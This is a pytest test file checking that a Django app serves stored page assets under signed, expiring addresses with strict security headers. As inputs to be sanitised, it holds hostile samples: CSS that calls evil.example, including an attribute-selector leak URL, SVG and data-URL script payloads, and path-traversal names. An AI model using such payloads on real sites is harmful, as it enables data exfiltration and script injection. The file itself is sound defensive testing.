"""Styles and pictures of pages are served from our own origin to anyone with a signed address, and cannot do anything."""

import base64
import json
import re
import time

import pytest
from django.urls import reverse

from extraction.algorithms.dom.references import NeededResource, ResourceKind
from extraction.demo.images import png
from extraction.display import addresses
from extraction.display.addresses import Addresses
from extraction.models import Asset, Site
from extraction.services.intake import assets
from extraction.views.core import page_files
from tests.services import factory

pytestmark = pytest.mark.django_db

URL = "https://shop.example/book/1"
PAGE = b"""<html><head><link rel="stylesheet" href="/s.css"><link rel="stylesheet" href="/none.css"></head><body>
<img src="/i.png" width="40"><img src="/none.png" alt="none"><img src="/d.svg"><p style="background:url(/i.png)">x</p></body></html>"""
SHEET = b"""@import "more.css"; @import url(http://evil.example/x.css); @font-face{font-family:f;src:url(f.woff2)}
body{background:url(i.png)} p{background:url(//evil.example/leak)} a[href^="s"]{background:url(https://evil.example/?s)}"""
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="9"/></svg>'


def keep(site: Site, url: str, content: bytes, kind: ResourceKind) -> Asset:
    made = assets.keep_asset(site, NeededResource(url, kind), content, assets.Room.of(site))
    assert made is not None
    return made


@pytest.fixture
def site() -> Site:
    made = factory.site("Shop")
    keep(made, "https://shop.example/s.css", SHEET, ResourceKind.STYLE)
    keep(made, "https://shop.example/more.css", b"i{color:red}", ResourceKind.STYLE)
    keep(made, "https://shop.example/i.png", png(1), ResourceKind.IMAGE)
    keep(made, "https://shop.example/d.svg", DRAWING, ResourceKind.IMAGE)
    keep(made, "https://shop.example/f.woff2", b"wOF2" + b"\0" * 40, ResourceKind.FONT)
    return made


def frame(client, site, content=PAGE, **query):
    snapshot = factory.snapshot(site, URL, content)
    return client.get(reverse("frame", args=[snapshot.pk]), query)


def paths(text: str) -> list[str]:
    return re.findall(r'/assets/[^"\')&]+', text)


def test_the_frame_links_stored_files_and_the_policy_allows_only_their_folder(site, signed_in):
    response = frame(signed_in("viewer"), site)
    found = paths(response.content.decode().split("<v-layer")[0])
    assert [path.rsplit(".", 1)[1] for path in found] == ["css", "png", "svg", "png"]
    folder = found[0].rsplit("/", 1)[0] + "/"
    policy = response.headers["Content-Security-Policy"]
    for kind in ("style-src 'unsafe-inline'", "img-src data:", "font-src data:"):
        assert f"{kind} http://testserver{folder};" in policy
    assert response.content.count(b"data-v-box") >= 1 and b"none.css" not in response.content


def test_each_file_is_served_with_its_own_type_and_without_a_session(site, signed_in, client):
    found = paths(frame(signed_in("viewer"), site).content.decode())
    client.logout()
    css, picture, drawing, _ = (client.get(path) for path in found[:4])
    assert [response.status_code for response in (css, picture, drawing)] == [200, 200, 200]
    assert picture.content == png(1) and picture.headers["Content-Type"] == "image/png"
    assert drawing.headers["Content-Type"] == "image/svg+xml" and b"alert" not in drawing.content and b"<rect" in drawing.content
    text = css.content.decode()
    assert "evil" not in text and text.count("@import") == 1 and len(paths(text)) == 3
    assert b"red" in client.get(paths(text)[0]).content
    assert client.get(next(path for path in paths(text) if path.endswith("woff2"))).headers["Content-Type"] == "font/woff2"
    for response in (css, picture, drawing):
        assert response.headers["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
        assert response.headers["X-Content-Type-Options"] == "nosniff" and "immutable" in response.headers["Cache-Control"]
        assert response.headers["Cross-Origin-Resource-Policy"] == "cross-origin" and not response.cookies


def test_a_signed_address_is_valid_for_one_site_and_a_limited_time(site, client, monkeypatch):
    picture = Asset.objects.get(url__endswith="i.png")
    name = f"{picture.sha256}.png"
    address = addresses.get_folder(site.pk) + name
    assert client.get(address).status_code == 200
    other = factory.site("Other")
    assert client.get(addresses.get_folder(other.pk) + name).status_code == 404
    assert client.get(f"/assets/{addresses.make_token(site.pk)[:-1]}x/{name}").status_code == 404
    assert client.get(f"/assets/x/{name}").status_code == 404
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + addresses.HOLDS_S - 1)
    assert client.get(address).status_code == 200
    monkeypatch.setattr(time, "time", lambda: now + 2 * addresses.HOLDS_S + 1)
    assert client.get(address).status_code == 404


def test_the_address_of_a_file_is_the_same_in_all_frames_of_some_hours(site):
    assert addresses.get_folder(site.pk) == addresses.get_folder(site.pk)


@pytest.mark.parametrize("wanted", ["document", "iframe", "frame", "object", "embed", "script", "worker"])
def test_a_file_is_never_opened_as_a_page(site, client, wanted):
    address = addresses.get_folder(site.pk) + f"{Asset.objects.get(url__endswith='d.svg').sha256}.svg"
    assert client.get(address, headers={"Sec-Fetch-Dest": wanted}).status_code == 404
    assert client.get(address, headers={"Sec-Fetch-Dest": "image"}).status_code == 200


@pytest.mark.parametrize("name", ["x", "..", "1.css", "1_0_.css", f"{'0' * 64}.png", "999_0_1-1.css", f"{'0' * 64}.html", "%2e%2e%2fx"])
def test_other_names_are_not_found(site, client, name):
    assert client.get(addresses.get_folder(site.pk) + name).status_code == 404


def test_a_sheet_is_not_served_as_a_picture_nor_under_another_ending(site, client):
    folder = addresses.get_folder(site.pk)
    sheet, picture = Asset.objects.get(url__endswith="/s.css"), Asset.objects.get(url__endswith="i.png")
    assert client.get(f"{folder}{sheet.sha256}.png").status_code == 404
    assert client.get(f"{folder}{picture.sha256}.svg").status_code == 404
    assert client.get(f"{folder}{picture.pk}_0_1-1.css").status_code == 404


def test_only_get_and_head(site, client):
    address = addresses.get_folder(site.pk) + f"{Asset.objects.get(url__endswith='i.png').sha256}.png"
    assert client.post(address).status_code == 405 and client.delete(address).status_code == 405
    assert client.head(address).status_code == 200


def test_style_sheets_import_others_only_to_a_limited_depth(site, client):
    keep(site, "https://shop.example/pool.css", b"@import 'loop.css'; b{c:d}", ResourceKind.STYLE)
    keep(site, "https://shop.example/loop.css", b"@import 'pool.css'; b{c:d}", ResourceKind.STYLE)
    row = Asset.objects.get(url__endswith="loop.css")
    path, seen = f"{addresses.get_folder(site.pk)}{row.pk}_0_1-1.css", 0
    while path:
        seen += 1
        path = next(iter(paths(client.get(path).content.decode())), "")
    assert seen == addresses.MAX_IMPORTED + 1


def test_addresses_of_the_dashboard_in_a_page_stay_plain_text(site, signed_in):
    content = f"<p>{addresses.PLACE[:5]} /assets/x/y</p>".encode()
    assert b"/assets/x/y" in frame(signed_in("viewer"), site, content).content


def test_a_newly_loaded_style_is_shown_at_once(site, signed_in):
    client = signed_in("viewer")
    before = frame(client, site).content.decode()
    keep(site, "https://shop.example/none.css", b"u{v:w}", ResourceKind.STYLE)
    after = frame(client, site, PAGE + b"<!-- same -->").content.decode()
    assert len(paths(after)) == len(paths(before)) + 1


def test_a_page_without_assets_loads_nothing(signed_in):
    response = frame(signed_in("viewer"), factory.site("Bare"))
    assert "<link" not in response.content.decode() and "/assets/" not in response.content.decode()


def test_marks_and_previews_work_with_assets(site, signed_in):
    snapshot = factory.snapshot(site, URL, PAGE)
    client = signed_in("viewer")
    marked = client.get(reverse("frame", args=[snapshot.pk]), {"mark": json.dumps([{"node": 0, "kind": "element"}])})
    assert "sandbox allow-scripts" in marked.headers["Content-Security-Policy"]
    preview = client.get(reverse("frame", args=[snapshot.pk]), {"preview": 1})
    assert b"<script" not in preview.content and len(paths(preview.content.decode())) == 4


@pytest.mark.parametrize(
    ("address", "kind", "kept"),
    [
        ("data:image/png;base64," + base64.b64encode(png(1)).decode(), ResourceKind.IMAGE, True),
        ("data:image/svg+xml," + DRAWING.decode().replace("#", "%23"), ResourceKind.IMAGE, True),
        ("data:image/png;base64,AAAA", ResourceKind.IMAGE, False),
        ("data:text/html,<script>alert(1)</script>", ResourceKind.IMAGE, False),
        ("data:text/css,a{b:c}", ResourceKind.STYLE, False),
        ("javascript:alert(1)", ResourceKind.IMAGE, False),
    ],
)
def test_files_written_into_an_address_are_examined_too(address, kind, kept):
    found = Addresses("https://a.example/", {}, addresses.address_under_place("1"))(address, kind)
    assert (found is not None) == kept and "alert" not in (found or "")


def test_a_stored_file_is_used_only_as_the_kind_it_is(site):
    held = assets.get_held(site.pk, assets.get_version(site.pk))
    ours = Addresses("https://shop.example/", held, addresses.address_under_place("1"))
    assert ours("/i.png", ResourceKind.IMAGE) and not ours("/i.png", ResourceKind.STYLE) and not ours("/s.css", ResourceKind.IMAGE)


def test_a_site_stores_files_up_to_its_limit(site, monkeypatch):
    monkeypatch.setattr(assets, "MAX_SITE_ASSETS", 6)
    room = assets.Room.of(site)
    assert assets.keep_asset(site, NeededResource("https://shop.example/6.css", ResourceKind.STYLE), b"a{b:c}", room)
    assert assets.keep_asset(site, NeededResource("https://shop.example/7.css", ResourceKind.STYLE), b"a{b:c}", room) is None


def test_an_unusable_file_is_remembered_and_requested_again_later(site, monkeypatch):
    need = NeededResource("https://shop.example/huge.png", ResourceKind.IMAGE)
    row = assets.keep_asset(site, need, b"\x89PNG\r\n\x1a\n....IHDR\xff\xff\xff\xff\xff\xff\xff\xff", assets.Room.of(site))
    assert row and "pixels" in row.error and assets.find_missing(site, [need]) == []
    monkeypatch.setattr(assets, "RETRY_AFTER", -assets.RETRY_AFTER)
    assert assets.find_missing(site, [need]) == [need]


def test_a_sheet_in_another_encoding_is_read():
    assert assets.decode_sheet("a{content:'é'}".encode("cp1252")) == "a{content:'é'}"
    assert assets.decode_sheet("a{b:c}".encode("utf-16")).endswith("a{b:c}")


def test_cleaned_sheets_are_kept_by_version(site, client):
    page_files._cleaned.cache_clear()
    folder = addresses.get_folder(site.pk)
    address = f"{folder}{Asset.objects.get(url__endswith='/s.css').pk}_0_1-1.css"
    client.get(address)
    client.get(address)
    assert page_files._cleaned.cache_info().hits == 1
